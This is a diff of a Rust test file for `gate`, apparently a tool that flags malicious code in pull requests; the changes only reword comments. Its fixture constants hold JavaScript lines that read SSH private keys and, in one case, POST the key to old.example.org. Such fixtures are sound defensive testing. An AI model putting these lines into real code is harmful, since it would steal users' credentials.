@@ -1,6 +1,6 @@
-//! Tests of `gate` on pull requests, some of which are malicious, rebased, suppressed, or suppress their findings.
+//! Tests of `gate` on pull requests: clean, malicious, rebased, suppressed, and suppressing their own findings.
 
-#![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
+#![allow(clippy::unwrap_used)] // test helpers are not marked as tests
 
 mod common;
 
@@ -16,8 +16,8 @@ const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
 /// Similar code, which is in the first commit of the repository.
 const OLD: &str = "const old = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\\nhttps.request({ host: 'old.example.org', method: 'POST' }).end(old);\\n";
 
-/// Builds a project of Ana's, whose first commit contains [`OLD`]. `main` are later commits by Ana on the branch
-/// `main`; `steps` are the commits after them, by Ben on the branch `proposal`.
+/// Builds a project by Ana whose first commit contains [`OLD`]. `main` contains her later commits on the branch `main`;
+/// `steps` contains the commits after them, usually by Ben on the branch `proposal`.
 fn project(main: &str, steps: &str) -> TempDir {
     let output = format!(
         "title = 't'\nstory = 's'\nhead = ''\n\
@@ -284,7 +284,7 @@ fn believe_reads_suppressions_from_the_given_revision() {
 
 #[test]
 fn criss_cross_merges_are_checked_for_new_content_only() {
-    // Main and the proposal have merged each other, so that they have two merge bases.
+    // Main and the proposal have merged each other, so they have two merge bases.
     let folder = project("", &step("ben", "proposal", "01-08", "'b.js' = \"let b;\\n\""));
     let repository = git2::Repository::open_bare(folder.path()).unwrap();
     let (main, side) = ("refs/heads/main", "refs/heads/proposal");
